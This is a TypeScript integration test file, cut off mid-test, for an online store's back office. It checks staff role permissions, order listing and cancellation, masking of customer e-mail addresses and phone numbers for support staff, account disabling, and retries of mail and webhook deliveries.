import { and, eq, inArray, sql } from 'drizzle-orm';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import en from '../../src/i18n/admin/en.json';
import ja from '../../src/i18n/admin/ja.json';
import zh from '../../src/i18n/admin/zh.json';
import siteEn from '../../src/i18n/messages/en.json';
import siteJa from '../../src/i18n/messages/ja.json';
import siteZh from '../../src/i18n/messages/zh.json';
import { ordersResource } from '../../src/lib/admin/resources/orders';
import { login } from '../../src/server/api/accounts/service';
import {
  auditLog,
  coupons,
  mailOutbox,
  orderEvents,
  orders,
  pintuanGroups,
  pintuanMembers,
  pintuanOffers,
  saleActivities,
  saleItems,
  sessions,
  userCoupons,
  users,
  webhookOutbox,
} from '../../src/server/db/schema';
import { deliverDueMail } from '../../src/server/mail/delivery';
import type { MailTransport } from '../../src/server/mail/transport';
import { deliverDueWebhooks } from '../../src/server/orders/webhooks';
import { call } from '../support/api';
import { signedInCustomer } from '../support/factories';
import { type OwnDatabase, ownDatabase } from '../support/own-database';
import { everyoneSignedIn, roleMatrix, type Who } from '../support/staff';

/**
 * Orders, customers and deliveries in the back office (docs/product/back-office-orders.md), on a database of its
 * own: the delivery tests run the mail and webhook workers over whole outboxes, and the lists count whole tables.
 */
let own: OwnDatabase;
let as: Record<Who, Record<string, string>>;
const DAY = 86_400_000;

beforeAll(async () => {
  own = await ownDatabase('admin_orders');
  as = await everyoneSignedIn(own.app, own.db);
}, 120_000);
afterAll(async () => {
  await own?.drop();
});

const customer = (locale: 'en' | 'zh' | 'ja' = 'en') => signedInCustomer({ locale }, own.db);
type Customer = Awaited<ReturnType<typeof customer>>;

let seq = 0;
/** An order written straight into the table, in any state (the lifecycle is exercised by the actions below). */
async function insertOrder(
  userId: number,
  values: Partial<typeof orders.$inferInsert> = {},
): Promise<typeof orders.$inferSelect> {
  seq += 1;
  const now = new Date();
  const [row] = await own.db
    .insert(orders)
    .values({
      number: `CT${Date.now().toString(36).toUpperCase()}${String(seq).padStart(5, '0')}`,
      userId,
      idempotencyKey: crypto.randomUUID(),
      kind: 'vps',
      payBy: new Date(now.getTime() + 30 * 60_000),
      currency: 'USD',
      rate: '1',
      subtotalMinor: 1000,
      discountMinor: 0,
      totalMinor: 1000,
      config: { planId: 'std-1c1g', regionId: 'los-angeles', imageId: 'ubuntu-24.04', quantity: 1, months: 1 },
      lines: [],
      ...values,
    })
    .returning();
  if (!row) throw new Error('order insert failed');
  return row;
}

async function pendingCustomer(): Promise<typeof users.$inferSelect> {
  seq += 1;
  const email = `pending${Date.now().toString(36)}${seq}@example.com`;
  const [row] = await own.db
    .insert(users)
    .values({ email, username: email.split('@')[0] ?? email, passwordHash: 'x', status: 'pending', locale: 'ja' })
    .returning();
  if (!row) throw new Error('user insert failed');
  return row;
}

async function saleItem(stock: number): Promise<number> {
  const [activity] = await own.db
    .insert(saleActivities)
    .values({
      name: { en: 'Back-office sale' },
      description: { en: 'x' },
      startsAt: new Date(Date.now() - DAY),
      endsAt: new Date(Date.now() + DAY),
    })
    .returning();
  const [item] = await own.db
    .insert(saleItems)
    .values({
      activityId: activity?.id ?? 0,
      planId: 'std-1c1g',
      regionId: 'los-angeles',
      months: 12,
      salePriceCents: 3000,
      stockTotal: stock,
      stockLeft: stock,
      perUserLimit: 1,
    })
    .returning();
  return item?.id ?? 0;
}

async function heldCoupon(who: Customer): Promise<number> {
  const [coupon] = await own.db
    .insert(coupons)
    .values({
      name: { en: 'Back-office coupon' },
      kind: 'amount',
      amountCents: 100,
      startsAt: new Date(Date.now() - DAY),
      endsAt: new Date(Date.now() + DAY),
      validDays: 7,
      stockTotal: 10,
      stockLeft: 10,
      perUserLimit: 1,
    })
    .returning();
  const [held] = await own.db
    .insert(userCoupons)
    .values({ couponId: coupon?.id ?? 0, userId: who.user.id, expiresAt: new Date(Date.now() + 7 * DAY) })
    .returning();
  return held?.id ?? 0;
}

/** An order placed through the storefront's API, as a customer would. */
async function placeOrder(who: Customer, body: Record<string, unknown> = {}) {
  const res = await call(own.app, 'POST', '/api/home/coupon-server/order/create', {
    json: {
      regionId: 'los-angeles',
      imageId: 'ubuntu-24.04',
      planId: 'std-1c1g',
      currency: 'USD',
      idempotencyKey: crypto.randomUUID(),
      ...body,
    },
    headers: who.headers,
  });
  expect(res.status, JSON.stringify(res.json)).toBe(200);
  const number = (res.json.message as { number: string }).number;
  const [row] = await own.db.select().from(orders).where(eq(orders.number, number));
  if (!row) throw new Error('order missing');
  return row;
}

async function mailRow(values: Partial<typeof mailOutbox.$inferInsert> = {}) {
  const [row] = await own.db
    .insert(mailOutbox)
    .values({ kind: 'activation', recipient: 'someone@example.com', subject: 'Hello', text: 't', html: 'h', ...values })
    .returning();
  if (!row) throw new Error('mail insert failed');
  return row;
}

/** Every translated refusal this file expects, in the back office's three languages. */
function translated(key: string) {
  const name = key.replace('api.admin.', '');
  for (const messages of [en, zh, ja]) {
    expect((messages as { api: { admin: Record<string, string> } }).api.admin[name], key).toBeTruthy();
  }
}

const post = (path: string, headers: Record<string, string>, json: Record<string, unknown> = {}) =>
  call(own.app, 'POST', path, { json, headers });
const get = (path: string, headers: Record<string, string>) => call(own.app, 'GET', path, { headers });

/** Which of an order's actions its page offers for the order as answered (each action's `when`). */
const offered = (order: Record<string, unknown>) =>
  Object.fromEntries((ordersResource.actions ?? []).map((a) => [a.name, a.when?.(order) ?? true]));

type ListAnswer<T> = { items: T[]; next: string | null; total: number; capped: boolean };

describe('who may do what', () => {
  // Pools made before the matrix runs: each allowed caller changes a row of its own.
  const pool: Record<string, number[]> = { cancel: [], refund: [], disable: [], activate: [], activation: [] };
  let paidOrder = 0;
  let customerId = 0;
  let mailId = 0;
  let webhookId = 0;
  beforeAll(async () => {
    const who = await customer();
    customerId = who.user.id;
    for (let i = 0; i < 6; i++) {
      pool.cancel?.push((await insertOrder(who.user.id)).id);
      pool.refund?.push((await insertOrder(who.user.id, { status: 'refund_pending', paidAt: new Date() })).id);
      pool.disable?.push((await customer()).user.id);
      pool.activate?.push((await pendingCustomer()).id);
      pool.activation?.push((await pendingCustomer()).id);
    }
    paidOrder = (await insertOrder(who.user.id, { status: 'paid', paidAt: new Date() })).id;
    mailId = (await mailRow({ lastError: 'connection refused' })).id;
    const [hook] = await own.db
      .insert(webhookOutbox)
      .values({ type: 'order.paid', orderId: paidOrder, payload: {} })
      .returning();
    webhookId = hook?.id ?? 0;
  });
  const next = (name: string) => pool[name]?.shift() ?? 0;
  const support: Who[] = ['owner', 'manager', 'support'];
  const commerce: Who[] = ['owner', 'manager'];
  roleMatrix(
    () => own.app,
    () => as,
    [
      { name: 'GET orders', allowed: support, request: () => ['GET', '/api/admin/orders'] },
      { name: 'GET orders export', allowed: support, request: () => ['GET', '/api/admin/orders/export'] },
      { name: 'GET an order', allowed: support, request: () => ['GET', `/api/admin/orders/${paidOrder}`] },
      {
        name: 'cancel an order',
        allowed: commerce,
        request: () => ['POST', `/api/admin/orders/${next('cancel')}/cancel`, {}],
      },
      {
        name: 'mark a refund made',
        allowed: commerce,
        request: () => ['POST', `/api/admin/orders/${next('refund')}/mark-refunded`, {}],
      },
      {
        name: 'resend the confirmation',
        allowed: support,
        request: () => ['POST', `/api/admin/orders/${paidOrder}/resend-confirmation`, {}],
      },
      { name: 'GET customers', allowed: support, request: () => ['GET', '/api/admin/customers'] },
      { name: 'GET a customer', allowed: support, request: () => ['GET', `/api/admin/customers/${customerId}`] },
      {
        name: 'activate a customer',
        allowed: commerce,
        request: () => ['POST', `/api/admin/customers/${next('activate')}/activate`, {}],
      },
      {
        name: 'disable a customer',
        allowed: commerce,
        request: () => ['POST', `/api/admin/customers/${next('disable')}/disable`, {}],
      },
      {
        name: 'resend the activation mail',
        allowed: support,
        request: () => ['POST', `/api/admin/customers/${next('activation')}/resend-activation`, {}],
      },
      { name: 'GET deliveries', allowed: support, request: () => ['GET', '/api/admin/deliveries?kind=webhook'] },
      {
        name: 'retry a mail',
        allowed: support,
        request: () => ['POST', `/api/admin/deliveries/mail-${mailId}/retry`, {}],
      },
      {
        name: 'retry a webhook',
        allowed: support,
        request: () => ['POST', `/api/admin/deliveries/webhook-${webhookId}/retry`, {}],
      },
    ],
  );

  it('refuses a change without the session CSRF token', async () => {
    const { 'x-csrf-token': _, ...cookieOnly } = as.manager;
    const res = await post(`/api/admin/orders/${paidOrder}/resend-confirmation`, cookieOnly);
    expect(res.status).toBe(403);
    expect(res.json).toEqual({ code: 4030, message: 'api.csrf' });
  });
});

describe('the order list', () => {
  let a: Customer;
  let b: Customer;
  const made: (typeof orders.$inferSelect)[] = [];
  beforeAll(async () => {
    a = await customer();
    b = await customer();
    const start = Date.now() - 10 * DAY;
    for (let i = 0; i < 25; i++) {
      made.push(
        await insertOrder(i % 2 ? a.user.id : b.user.id, {
          createdAt: new Date(start + i * 60_000),
          status: i % 5 === 0 ? 'paid' : 'pending_payment',
          currency: i % 3 === 0 ? 'JPY' : 'USD',
          totalMinor: 1000 + ((i * 7) % 25) * 10,
          config: { planId: i % 4 === 0 ? 'std-2c4g' : 'std-1c1g', quantity: 1, months: 1 },
        }),
      );
    }
  });
  const mine = (rows: { number: string }[]) => rows.filter((r) => made.some((m) => m.number === r.number));

  it('pages from a cursor, newest first, every order once', async () => {
    const seen: string[] = [];
    let cursor = '';
    for (let i = 0; i < 10; i++) {
      const res = await get(
        `/api/admin/orders?customer=${a.user.id}&rows=4${cursor ? `&cursor=${cursor}` : ''}`,
        as.support,
      );
      expect(res.status, JSON.stringify(res.json)).toBe(200);
      const page = res.json.message as ListAnswer<{ number: string; createdAt: string }>;
      expect(page.total).toBe(12);
      expect(page.capped).toBe(false);
      seen.push(...page.items.map((o) => o.number));
      if (!page.next) break;
      cursor = page.next;
    }
    const expected = made
      .filter((o) => o.userId === a.user.id)
      .sort((x, y) => y.createdAt.getTime() - x.createdAt.getTime())
      .map((o) => o.number);
    expect(seen).toEqual(expected);
  });

  it('filters by state, customer e-mail, product, currency and time, and sorts by amount', async () => {
    const list = async (query: string) => {
      const res = await get(`/api/admin/orders?rows=100&${query}`, as.manager);
      expect(res.status, JSON.stringify(res.json)).toBe(200);
      return (res.json.message as ListAnswer<{ number: string; totalMinor: number; status: string }>).items;
    };
    const ofB = made.filter((o) => o.userId === b.user.id);
    expect(mine(await list(`customer=${encodeURIComponent(b.user.email.toUpperCase())}`))).toHaveLength(ofB.length);
    expect(mine(await list(`customer=${b.user.username}&state=paid`)).map((o) => o.number)).toEqual(
      ofB
        .filter((o) => o.status === 'paid')
        .reverse()
        .map((o) => o.number),
    );
    const jpy = await list(`customer=${a.user.id}&currency=JPY&product=std-1c1g`);
    expect(jpy.map((o) => o.number).sort()).toEqual(
      made
        .filter((o) => o.userId === a.user.id && o.currency === 'JPY' && o.config.planId === 'std-1c1g')
        .map((o) => o.number)
        .sort(),
    );
    const from = made[5]?.createdAt.toISOString() ?? '';
    const to = made[9]?.createdAt.toISOString() ?? '';
    const ranged = mine(
      await list(`from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}&customer=${a.user.id}`),
    );
    expect(ranged.map((o) => o.number).sort()).toEqual(
      made
        .slice(5, 9)
        .filter((o) => o.userId === a.user.id)
        .map((o) => o.number)
        .sort(),
    );
    const byAmount = await list(`customer=${a.user.id}&sort=total&dir=asc`);
    const amounts = byAmount.map((o) => o.totalMinor);
    expect(amounts).toEqual([...amounts].sort((x, y) => x - y));
    // Paging by amount from a cursor keeps the order across pages.
    const first = await get(`/api/admin/orders?customer=${a.user.id}&sort=total&dir=asc&rows=5`, as.manager);
    const p1 = first.json.message as ListAnswer<{ number: string; totalMinor: number }>;
    const second = await get(
      `/api/admin/orders?customer=${a.user.id}&sort=total&dir=asc&rows=5&cursor=${p1.next}`,
      as.manager,
    );
    const p2 = second.json.message as ListAnswer<{ number: string; totalMinor: number }>;
    expect([...p1.items, ...p2.items].map((o) => o.number)).toEqual(byAmount.slice(0, 10).map((o) => o.number));
  });

  it('is not searched by text: the list offers filters, each over an index, and no search', async () => {
    const res = await get(`/api/admin/orders?customer=${a.user.id}&q=nothing-matches-this`, as.support);
    expect(res.status).toBe(200);
    expect((res.json.message as ListAnswer<unknown>).total).toBe(12);
  });

  it('finds nothing for an unknown customer, and refuses a bad cursor or a backwards range (422)', async () => {
    const none = await get('/api/admin/orders?customer=nobody@nowhere.example', as.support);
    expect(none.json.message).toEqual({ items: [], next: null, total: 0, capped: false });
    const badCursor = await get('/api/admin/orders?cursor=bm90LWpzb24', as.support);
    expect(badCursor.status).toBe(422);
    expect(badCursor.json.fields).toEqual({ cursor: 'api.field.invalid' });
    const backwards = await get(
      `/api/admin/orders?from=${encodeURIComponent(new Date().toISOString())}&to=${encodeURIComponent(new Date(Date.now() - DAY).toISOString())}`,
      as.support,
    );
    expect(backwards.status).toBe(422);
    expect(backwards.json.fields).toEqual({ to: 'api.admin.rangeBackwards' });
    translated('api.admin.rangeBackwards');
    const badState = await get('/api/admin/orders?state=lost', as.support);
    expect(badState.status).toBe(422);
    expect(badState.json.fields).toEqual({ state: 'api.field.invalid' });
  });
});

describe('an order and its actions', () => {
  it('cancels an unpaid order through the lifecycle: stock and coupon given back once, history, webhook, audit, change announced', async () => {
    const saleId = await saleItem(3);
    const buyer = await customer();
    const couponId = await heldCoupon(buyer);
    const order = await placeOrder(buyer, { saleItemId: saleId, months: 12, userCouponId: couponId });
    const [taken] = await own.db.select().from(saleItems).where(eq(saleItems.id, saleId));
    expect(taken?.stockLeft).toBe(2);

    // Every instance hears of it (the sale page's stock), once the change commits.
    const ear = new pg.Client({ connectionString: own.url });
    await ear.connect();
    const heard: string[] = [];
    ear.on('notification', (n) => heard.push(n.payload ?? ''));
    await ear.query('LISTEN cirrus_changes');

    // Two operators at once: one cancel, one 409.
    const [x, y] = await Promise.all([
      post(`/api/admin/orders/${order.id}/cancel`, as.manager, { note: 'customer asked by phone' }),
      post(`/api/admin/orders/${order.id}/cancel`, as.owner, {}),
    ]);
    expect([x.status, y.status].sort()).toEqual([200, 409]);
    const refused = x.status === 409 ? x : y;
    expect(refused.json).toMatchObject({
      code: 4090,
      message: 'api.admin.ordersNotCancellable',
      current: { status: 'cancelled' },
    });
    translated('api.admin.ordersNotCancellable');

    await expect.poll(() => heard.length).toBe(1);
    expect(JSON.parse(heard[0] ?? '{}').kinds).toEqual(['promotions']);
    await ear.end();

    const [back] = await own.db.select().from(saleItems).where(eq(saleItems.id, saleId));
    expect(back?.stockLeft).toBe(3);
    const [coupon] = await own.db.select().from(userCoupons).where(eq(userCoupons.id, couponId));
    expect(coupon?.usedAt).toBeNull();

    const detail = await get(`/api/admin/orders/${order.id}`, as.support);
    expect(detail.status).toBe(200);
    const d = detail.json.message as {
      status: string;
      events: { from: string | null; to: string; actor: string; reason: string }[];
      webhooks: { type: string; state: string }[];
    };
    expect(d.status).toBe('cancelled');
    expect(d.events.map((e) => `${e.from}>${e.to}:${e.actor}`)).toEqual([
      'null>pending_payment:customer',
      'pending_payment>cancelled:operator',
    ]);
    // The manager's call carried a note, the owner's none: whichever won wrote the reason.
    expect(d.events[1]?.reason).toBe(
      x.status === 200 ? 'cancelled by an operator: customer asked by phone' : 'cancelled by an operator',
    );
    expect(d.webhooks.map((w) => w.type)).toEqual(['order.created', 'order.cancelled']);
    expect(offered(d)).toEqual({
      cancel: false,
      'mark-refunded': false,
      'resend-confirmation': false,
      refund: false,
      'request-refund': false,
      'approve-refund': false,
      'reject-refund': false,
      'retry-refund': false,
    });

    const audits = await own.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.kind, 'order'), eq(auditLog.entityId, String(order.id))));
    expect(audits).toHaveLength(1);
    expect(audits[0]?.before).toMatchObject({ status: 'pending_payment' });
    expect(audits[0]?.after).toMatchObject({ status: 'cancelled', action: 'cancel' });
  });

  it('refuses to cancel a paid order (409, translated) and changes nothing', async () => {
    const who = await customer();
    const paid = await insertOrder(who.user.id, { status: 'paid', paidAt: new Date() });
    const res = await post(`/api/admin/orders/${paid.id}/cancel`, as.owner);
    expect(res.status).toBe(409);
    expect(res.json).toMatchObject({
      code: 4090,
      message: 'api.admin.ordersNotCancellable',
      current: { status: 'paid' },
    });
    const [still] = await own.db.select().from(orders).where(eq(orders.id, paid.id));
    expect(still?.status).toBe('paid');
    expect(await own.db.select().from(orderEvents).where(eq(orderEvents.orderId, paid.id))).toHaveLength(0);
  });

  it('marks a refund made only on an order waiting for one', async () => {
    const who = await customer();
    const unpaid = await insertOrder(who.user.id);
    const refused = await post(`/api/admin/orders/${unpaid.id}/mark-refunded`, as.manager);
    expect(refused.status).toBe(409);
    expect(refused.json).toMatchObject({
      message: 'api.admin.ordersNotRefundPending',
      current: { status: 'pending_payment' },
    });
    translated('api.admin.ordersNotRefundPending');

    const waiting = await insertOrder(who.user.id, { status: 'refund_pending', paidAt: new Date() });
    const done = await post(`/api/admin/orders/${waiting.id}/mark-refunded`, as.manager, { note: 'bank transfer' });
    expect(done.status, JSON.stringify(done.json)).toBe(200);
    const events = await own.db.select().from(orderEvents).where(eq(orderEvents.orderId, waiting.id));
    expect(events.map((e) => `${e.fromStatus}>${e.toStatus}:${e.actor}`)).toEqual(['refund_pending>refunded:operator']);
    const hooks = await own.db.select().from(webhookOutbox).where(eq(webhookOutbox.orderId, waiting.id));
    expect(hooks.map((h) => h.type)).toEqual(['order.refunded']);
    const again = await post(`/api/admin/orders/${waiting.id}/mark-refunded`, as.manager);
    expect(again.status).toBe(409);
  });

  it('resends the confirmation as a new outbox row, only for an order that was paid', async () => {
    const who = await customer('ja');
    const unpaid = await insertOrder(who.user.id);
    const refused = await post(`/api/admin/orders/${unpaid.id}/resend-confirmation`, as.support);
    expect(refused.status).toBe(409);
    expect(refused.json.message).toBe('api.admin.ordersNotPaid');
    translated('api.admin.ordersNotPaid');

    const paid = await insertOrder(who.user.id, { status: 'active', paidAt: new Date() });
    for (let i = 0; i < 2; i++) {
      const res = await post(`/api/admin/orders/${paid.id}/resend-confirmation`, as.support);
      expect(res.status, JSON.stringify(res.json)).toBe(200);
    }
    const mails = await own.db.select().from(mailOutbox).where(eq(mailOutbox.orderId, paid.id));
    expect(mails).toHaveLength(2);
    expect(
      mails.every((m) => m.kind === 'order-paid' && m.recipient === who.user.email && m.status === 'pending'),
    ).toBe(true);
    expect(mails[0]?.subject).toContain(paid.number);
    const detail = await get(`/api/admin/orders/${paid.id}`, as.support);
    const d = detail.json.message as { mails: { recipient: string; state: string }[] };
    expect(d.mails).toHaveLength(2);
    expect(d.mails[0]?.recipient).not.toBe(who.user.email);
  });

  it('answers 404 for an order that does not exist and 422 for a malformed id', async () => {
    expect((await get('/api/admin/orders/2147483000', as.support)).status).toBe(404);
    expect((await post('/api/admin/orders/2147483000/cancel', as.manager)).status).toBe(404);
    expect((await get('/api/admin/orders/abc', as.support)).status).toBe(422);
  });
});

describe('customers', () => {
  it('finds a customer by id, e-mail beginning and username beginning', async () => {
    const who = await customer();
    const find = async (q: string) => {
      const res = await get(`/api/admin/customers?q=${encodeURIComponent(q)}`, as.manager);
      expect(res.status, JSON.stringify(res.json)).toBe(200);
      return (res.json.message as ListAnswer<{ id: number }>).items.map((c) => c.id);
    };
    expect(await find(String(who.user.id))).toContain(who.user.id);
    expect(await find(who.user.email.slice(0, 8).toUpperCase())).toContain(who.user.id);
    expect(await find(who.user.email)).toEqual([who.user.id]);
    expect(await find(who.user.username)).toContain(who.user.id);
    expect(await find('%')).toEqual([]);
  });

  it('shows support masked e-mail addresses and phone numbers, and owners and managers whole ones', async () => {
    const who = await customer();
    await own.db.update(users).set({ phone: '+86 138-1234-5678' }).where(eq(users.id, who.user.id));
    const order = await insertOrder(who.user.id, { status: 'paid', paidAt: new Date() });
    const read = async (as: Record<string, string>) => {
      const detail = (await get(`/api/admin/customers/${who.user.id}`, as)).json.message as {
        email: string;
        phone: string;
      };
      const list = (await get(`/api/admin/customers?q=${who.user.id}`, as)).json.message as ListAnswer<{
        email: string;
        phone: string;
      }>;
      const orderDetail = (await get(`/api/admin/orders/${order.id}`, as)).json.message as {
        customerEmail: string;
        customerPhone: string;
      };
      const orderList = (await get(`/api/admin/orders?customer=${who.user.id}`, as)).json.message as ListAnswer<{
        customerEmail: string;
      }>;
      const csv = (await get(`/api/admin/orders/export?customer=${who.user.id}`, as)).text;
      return { detail, list: list.items[0], orderDetail, orderList: orderList.items[0], csv };
    };
    const prefix = who.user.email.slice(0, 4);
    const masked = await read(as.support);
    expect(masked.detail.email).toBe(`${prefix}****`);
    expect(masked.detail.phone).toBe('86****678');
    expect(masked.list?.email).toBe(`${prefix}****`);
    expect(masked.list?.phone).toBe('86****678');
    expect(masked.orderDetail).toMatchObject({ customerEmail: `${prefix}****`, customerPhone: '86****678' });
    expect(masked.orderList?.customerEmail).toBe(`${prefix}****`);
    expect(masked.csv).toContain(`${prefix}****`);
    expect(masked.csv).not.toContain(who.user.email);
    for (const role of ['manager', 'owner'] as const) {
      const whole = await read(as[role]);
      expect(whole.detail).toMatchObject({ email: who.user.email, phone: '+86 138-1234-5678' });
      expect(whole.list?.email).toBe(who.user.email);
      expect(whole.orderDetail.customerEmail).toBe(who.user.email);
      expect(whole.orderList?.customerEmail).toBe(who.user.email);
      expect(whole.csv).toContain(who.user.email);
    }
  });

  it("shows a customer's orders, coupons and group-buys", async () => {
    const who = await customer();
    const couponId = await heldCoupon(who);
    const order = await insertOrder(who.user.id);
    const res = await get(`/api/admin/customers/${who.user.id}`, as.support);
    const c = res.json.message as {
      orders: { number: string }[];
      coupons: { id: number; name: { en: string } }[];
      groupBuys: unknown[];
      sessions: number;
    };
    expect(c.orders.map((o) => o.number)).toEqual([order.number]);
    expect(c.coupons.map((x) => x.id)).toEqual([couponId]);
    expect(c.coupons[0]?.name.en).toBe('Back-office coupon');
    expect(c.groupBuys).toEqual([]);
    expect(c.sessions).toBe(1);
  });

  it('disabling ends every session at once; the account cannot sign in until activated again', async () => {
    const who = await customer();
    // A second session, as from another browser.
    await login(own.db, { account: who.user.email, password: 'abc123', ip: '203.0.113.9' });
    expect(await own.db.select().from(sessions).where(eq(sessions.userId, who.user.id))).toHaveLength(2);
    expect((await get('/api/auth/me', who.headers)).status).toBe(200);

    const res = await post(`/api/admin/customers/${who.user.id}/disable`, as.manager);
    expect(res.status, JSON.stringify(res.json)).toBe(200);
    expect(res.json.message).toMatchObject({ id: who.user.id, status: 'disabled' });
    expect(await own.db.select().from(sessions).where(eq(sessions.userId, who.user.id))).toHaveLength(0);
    expect((await get('/api/auth/me', who.headers)).status).toBe(401);
    await expect(
      login(own.db, { account: who.user.email, password: 'abc123', ip: '203.0.113.9' }),
    ).rejects.toMatchObject({ messageKey: 'api.login.disabled' });
    for (const messages of [siteEn, siteZh, siteJa]) expect(messages.api.login.disabled).toBeTruthy();

    const again = await post(`/api/admin/customers/${who.user.id}/disable`, as.manager);
    expect(again.status).toBe(409);
    expect(again.json.message).toBe('api.admin.customersAlreadyDisabled');
    translated('api.admin.customersAlreadyDisabled');

    const audit = await own.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.kind, 'customer'), eq(auditLog.entityId, String(who.user.id))));
    expect(audit.map((a) => a.after)).toEqual([
      { id: who.user.id, username: who.user.username, status: 'disabled', action: 'disable', sessionsEnded: 2 },
    ]);

    const opened = await post(`/api/admin/customers/${who.user.id}/activate`, as.owner);
    expect(opened.status).toBe(200);
    const signedIn = await login(own.db, { account: who.user.email, password: 'abc123', ip: '203.0.113.9' });
    expect(signedIn.user.email).toBe(who.user.email);
    const twice = await post(`/api/admin/customers/${who.user.id}/activate`, as.owner);
    expect(twice.status).toBe(409);
    expect(twice.json.message).toBe('api.admin.customersAlreadyActive');
    translated('api.admin.customersAlreadyActive');
  });

  it('answers 404 when disabling a customer who does not exist', async () => {
    const res = await post('/api/admin/customers/2147483000/disable', as.manager);
    expect(res.status).toBe(404);
    expect(res.json).toEqual({ code: 4040, message: 'api.admin.notFound' });
    expect((await post('/api/admin/customers/2147483000/activate', as.manager)).status).toBe(404);
    expect((await get('/api/admin/customers/2147483000', as.support)).status).toBe(404);
  });

  it('resends the activation mail through the outbox, only to a pending account', async () => {
    const pending = await pendingCustomer();
    const res = await post(`/api/admin/customers/${pending.id}/resend-activation`, as.support);
    expect(res.status, JSON.stringify(res.json)).toBe(200);
    const mails = await own.db.select().from(mailOutbox).where(eq(mailOutbox.userId, pending.id));
    expect(mails.map((m) => [m.kind, m.recipient, m.status])).toEqual([['activation', pending.email, 'pending']]);
    // In the customer's language.
    expect(mails[0]?.subject).toMatch(/[\u3040-\u30ff\u4e00-\u9fff]/);

    const active = await customer();
    const refused = await post(`/api/admin/customers/${active.user.id}/resend-activation`, as.support);
    expect(refused.status).toBe(409);
    expect(refused.json.message).toBe('api.admin.customersNotPending');
    translated('api.admin.customersNotPending');
  });

  it('a password reset does not open an account an operator disabled', async () => {
    const who = await customer();
    await post(`/api/admin/customers/${who.user.id}/disable`, as.manager);
    const { resetPassword, requestPasswordReset } = await import('../../src/server/api/accounts/service');
    await requestPasswordReset(own.db, who.user.email, '203.0.113.10', 'en');
    const [mail] = await own.db
      .select()
      .from(mailOutbox)
      .where(and(eq(mailOutbox.userId, who.user.id), eq(mailOutbox.kind, 'password-reset')));
    const code = new URL(/https?:\/\/\S+/.exec(mail?.text ?? '')?.[0] ?? 'http://x').searchParams.get('code') ?? '';
    await resetPassword(own.db, code, 'newPassword123');
    const [row] = await own.db.select().from(users).where(eq(users.id, who.user.id));
    expect(row?.status).toBe('disabled');
  });
});

describe('deliveries', () => {
  const transport = () => {
    const sent: string[] = [];
    const t: MailTransport = {
      async send(mail) {
        // Slow enough that two workers would overlap if a row could go to both.
        await new Promise((resolve) => setTimeout(resolve, 20));
        sent.push(mail.subject);
      },
    };
    return { t, sent };
  };

  it('lists each outbox by state, with attempts and last error; support reads addresses masked, even in errors', async () => {
    const failed = await mailRow({
      recipient: 'masked.person@example.com',
      subject: 'failed one',
      attempts: 3,
      lastError: '550 mailbox masked.person@example.com unavailable',
      nextAttemptAt: new Date(Date.now() + 3_600_000),
    });
    const res = await get('/api/admin/deliveries?kind=mail&state=failed&rows=100', as.support);
    expect(res.status).toBe(200);
    const page = res.json.message as ListAnswer<{
      id: string;
      state: string;
      recipient: string;
      lastError: string;
      attempts: number;
    }>;
    const row = page.items.find((r) => r.id === `mail-${failed.id}`);
    expect(row).toMatchObject({ state: 'failed', attempts: 3, recipient: 'mask****' });
    expect(row?.lastError).toBe('550 mailbox mask**** unavailable');
    expect(page.items.every((r) => r.state === 'failed')).toBe(true);
    const whole = (await get('/api/admin/deliveries?kind=mail&state=failed&rows=100', as.manager)).json
      .message as ListAnswer<{ id: string; recipient: string }>;
    expect(whole.items.find((r) => r.id === `mail-${failed.id}`)?.recipient).toBe('masked.person@example.com');
    const bad = await get('/api/admin/deliveries?kind=sms', as.support);
    expect(bad.status).toBe(422);
  });

  it('reads one row by its outbox and id, masked for support; a malformed key is 422, a missing one 404', async () => {
    const mail = await mailRow({ recipient: 'one.person@example.com', lastError: '550 one.person@example.com gone' });
    const res = await get(`/api/admin/deliveries/mail-${mail.id}`, as.support);
    expect(res.status, JSON.stringify(res.json)).toBe(200);
    expect(res.json.message).toMatchObject({
      id: `mail-${mail.id}`,
      kind: 'mail',
      outboxId: mail.id,
      recipient: 'one.****',
      lastError: '550 one.**** gone',
      state: 'failed',
    });
    const whole = await get(`/api/admin/deliveries/mail-${mail.id}`, as.manager);
    expect(whole.json.message).toMatchObject({ recipient: 'one.person@example.com' });
    expect((await get('/api/admin/deliveries/webhook-2147483000', as.support)).status).toBe(404);
    const bad = await get('/api/admin/deliveries/sms-1', as.support);
    expect(bad.status).toBe(422);
    expect(bad.json.fields).toEqual({ id: 'api.field.invalid' });
  });

  it('retry now, twice, sends the row once; a sent row cannot be retried', async () => {
    const row = await mailRow({
      subject: `retry ${crypto.randomUUID()}`,
      attempts: 2,
      lastError: 'timeout',
      nextAttemptAt: new Date(Date.now() + 3_600_000),
    });
    for (let i = 0; i < 2; i++) {
      const res = await post(`/api/admin/deliveries/mail-${row.id}/retry`, as.support);
      expect(res.status, JSON.stringify(res.json)).toBe(200);
    }
    const [due] = await own.db.select().from(mailOutbox).where(eq(mailOutbox.id, row.id));
    expect(due?.nextAttemptAt.getTime()).toBeLessThanOrEqual(Date.now() + 1000);

    // Two workers at once (two instances): the claim is exclusive, the row goes out once.
    const { t, sent } = transport();
    const later = new Date(Date.now() + 2_000);
    await Promise.all([deliverDueMail(own.db, t, later, 500), deliverDueMail(own.db, t, later, 500)]);
    await deliverDueMail(own.db, t, later, 500);
    expect(sent.filter((s) => s === row.subject)).toHaveLength(1);
    const [done] = await own.db.select().from(mailOutbox).where(eq(mailOutbox.id, row.id));
    expect(done).toMatchObject({ status: 'sent', attempts: 3 });

    const refused = await post(`/api/admin/deliveries/mail-${row.id}/retry`, as.support);
    expect(refused.status).toBe(409);
    expect(refused.json).toMatchObject({ message: 'api.admin.deliveriesAlreadySent', current: { state: 'sent' } });
    translated('api.admin.deliveriesAlreadySent');
    const [still] = await own.db.select().from(mailOutbox).where(eq(mailOutbox.id, row.id));
    expect(still?.status).toBe('sent');

    const audits = await own.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.kind, 'mail'), eq(auditLog.entityId, String(row.id))));
    expect(audits).toHaveLength(2);
  });

  it('does not retry a row a worker is sending, nor one that does not exist', async () => {
    const sending = await mailRow({ status: 'sending', attempts: 1, nextAttemptAt: new Date(Date.now() + 600_000) });
    const res = await post(`/api/admin/deliveries/mail-${sending.id}/retry`, as.support);
    expect(res.status).toBe(409);
    expect(res.json.message).toBe('api.admin.deliveriesBeingSent');
